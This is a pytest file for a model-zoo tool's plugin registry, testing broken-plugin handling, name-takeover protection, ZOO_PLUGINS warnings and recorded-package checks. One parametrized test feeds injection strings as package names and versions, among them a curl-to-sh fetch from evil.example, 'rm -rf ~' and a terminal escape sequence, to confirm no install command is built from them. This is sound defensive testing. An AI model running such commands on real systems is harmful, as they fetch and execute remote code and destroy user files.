"""Plugins cannot take zoo over: a sys.exit() is a broken plugin, prints stay off stdout,
built-in names stay with the built-ins, ZOO_PLUGINS typos are named, and a model folder's
recorded package is matched against the plugin that serves its encoder (issue 16: 11, 15)."""

from __future__ import annotations

import json
import logging

import pytest
from fixtures import PluginEnv

from zoo.cli import main
from zoo.errors import ZooError


def test_sys_exit_at_import_or_in_a_hook_is_a_broken_plugin(plugin_env: PluginEnv,
                                                             capsys) -> None:
    plugin_env.add_dist("zoo-fx-exitimport", "9.9", {"exitimport": "zoo_fx_exits_at_import"})
    plugin_env.add_dist("zoo-fx-exithook", "9.9", {"exithook": "zoo_fx_exits_in_hook"})
    registry = plugin_env.load()  # no SystemExit escapes
    broken = {b.plugin: b.error for b in registry.broken}
    assert "called sys.exit(3) at import" in broken["exitimport"]
    assert "called sys.exit(4) in zoo_register_encoders" in broken["exithook"]
    assert "none" in registry.encoders and "paper" in registry.masks  # the rest still load
    code = main(["plugins", "--json"])
    assert code == 0
    data = json.loads(capsys.readouterr().out)
    assert {b["plugin"] for b in data["broken"]} >= {"exitimport", "exithook"}
    plugin_env.strict()
    with pytest.raises(ZooError, match="sys.exit"):
        plugin_env.load()


def test_a_plugin_that_prints_keeps_plugins_json_valid(plugin_env: PluginEnv, capsys,
                                                       caplog) -> None:
    plugin_env.add_dist("zoo-fx-prints", "9.9", {"prints": "zoo_fx_prints"})
    with caplog.at_level(logging.INFO, logger="zoo.plugin.registry"):
        assert main(["plugins", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)  # nothing but the JSON on stdout
    assert "printedbox" in {m["name"] for m in data["masks"]}
    logged = caplog.text
    assert "hello from zoo_fx_prints at import" in logged
    assert "hello from zoo_fx_prints in its hook" in logged


def test_builtin_names_stay_with_the_builtins(plugin_env: PluginEnv) -> None:
    # "aaa" sorts before "convmixer" and "none": it used to take both names over
    plugin_env.add_dist("zoo-evil", "6.6", {"aaa": "zoo_fx_takeover"})
    registry = plugin_env.load()
    assert registry.encoder("none").package == registry.encoder("convmixer").package \
        == "zoo-inpaint"
    assert {b.plugin for b in registry.broken} == {"aaa"}
    errors = " ".join(b.error for b in registry.broken)
    for source in ("'aaa'", "zoo-evil 6.6", "built-in plugin 'none'",
                   "built-in plugin 'convmixer'", "zoo-inpaint",
                   "built-in names stay with the built-in"):
        assert source in errors, errors


def test_an_outside_entry_point_named_like_a_builtin_is_refused(plugin_env: PluginEnv) -> None:
    plugin_env.add_dist("zoo-evil", "6.6", {"none": "zoo_fx_takeover"})
    registry = plugin_env.load()
    assert registry.encoder("none").package == "zoo-inpaint"
    assert registry.plugins["none"][0] == "zoo-inpaint"
    (b,) = [b for b in registry.broken if b.package == "zoo-evil"]
    assert "entry point name 'none' of zoo-evil 6.6" in b.error
    assert "built-in plugin of zoo-inpaint" in b.error and "kept the built-in" in b.error


def test_unknown_name_in_zoo_plugins_is_warned_about(plugin_env: PluginEnv, caplog,
                                                      capsys) -> None:
    plugin_env.allow("doesnotexist")
    with caplog.at_level(logging.WARNING, logger="zoo.plugin.registry"):
        registry = plugin_env.load()
    (warning,) = registry.warnings
    assert "ZOO_PLUGINS names doesnotexist, which no installed plugin has" in warning
    assert "installed: " in warning and "masks, none" in warning
    assert warning in caplog.text
    assert main(["plugins", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["warnings"] == [warning]


def test_a_name_left_out_by_zoo_plugins_says_so(plugin_env: PluginEnv, capsys) -> None:
    plugin_env.allow("none")
    plugin_env.refresh()
    assert main(["train", "--epochs", "1", "--set", "dataset=synthetic",
                 "--out", "never-written"]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "unknown mask 'paper'" in err
    assert "ZOO_PLUGINS=none loads only those plugins" in err
    assert "unset ZOO_PLUGINS or add the plugin that provides 'paper'" in err


# ---- what a model folder records about its plugins ------------------------------------------




def _record(src, dst, encoder: str, **required):
    """A copy of ``src`` whose zoo.json records ``required`` for its encoder ``encoder``."""
    import shutil

    shutil.copytree(src, dst)
    config = json.loads((dst / "config.json").read_text())
    config["encoder"] = encoder
    (dst / "config.json").write_text(json.dumps(config))
    meta = json.loads((dst / "zoo.json").read_text())
    meta["requires"]["encoder"] = {"name": encoder, **required}
    (dst / "zoo.json").write_text(json.dumps(meta))
    return dst


@pytest.mark.parametrize("package,version", [
    ("zoo-fancy'; curl http://evil.example | sh; echo '", "1.0"),
    ("zoo-fancy", "1.0; rm -rf ~"),
    ("zoo-fancy\x1b]0;pwned\x07", "1.0"),
    ("--index-url=http://evil.example", "1.0"),
])
def test_install_advice_never_shows_a_command_built_from_bad_text(
        model_folder, tmp_path, capsys, package, version) -> None:
    from zoo.modelfolder.checkpoint import load_model

    folder = _record(model_folder, tmp_path / "m", "fancy", plugin="fancy", package=package,
                     version=version)
    with pytest.raises(ZooError) as info:
        load_model(folder)
    msg = str(info.value)
    assert "pip install" not in msg and "no install command is offered" in msg
    assert "\x1b" not in msg and "\x07" not in msg
    assert main(["eval", str(folder), "--device", "cpu"]) == 2
    err = capsys.readouterr().err
    assert "pip install" not in err and "\x1b]" not in err and "\x07" not in err


def test_install_advice_for_a_valid_package_is_a_pinned_command(model_folder, tmp_path) -> None:
    from zoo.modelfolder.checkpoint import load_model

    folder = _record(model_folder, tmp_path / "m", "fancy", plugin="fancy",
                     package="zoo-fancy.encoders_2", version="1.0.post1")
    with pytest.raises(ZooError, match=r"from package zoo-fancy.encoders_2 1.0.post1, which is "
                                       r"not installed; pip install 'zoo-fancy.encoders_2=="
                                       r"1.0.post1'"):
        load_model(folder)


def test_recorded_package_must_be_the_one_serving_the_encoder(model_folder, tmp_path) -> None:
    from zoo.modelfolder.checkpoint import load_model

    load_model(model_folder)  # recorded zoo-inpaint, served by zoo-inpaint: loads
    folder = _record(model_folder, tmp_path / "m", "none", plugin="none",
                     package="zoo-other-none", version="2.0")
    with pytest.raises(ZooError) as info:
        load_model(folder)
    msg = str(info.value)
    assert "saved with the encoder 'none' of package zoo-other-none" in msg
    assert "comes from plugin 'none' of package zoo-inpaint" in msg
    # the same package under another spelling is the same package
    load_model(_record(model_folder, tmp_path / "n", "none", plugin="none",
                       package="Zoo_Inpaint", version="0.1.0"))
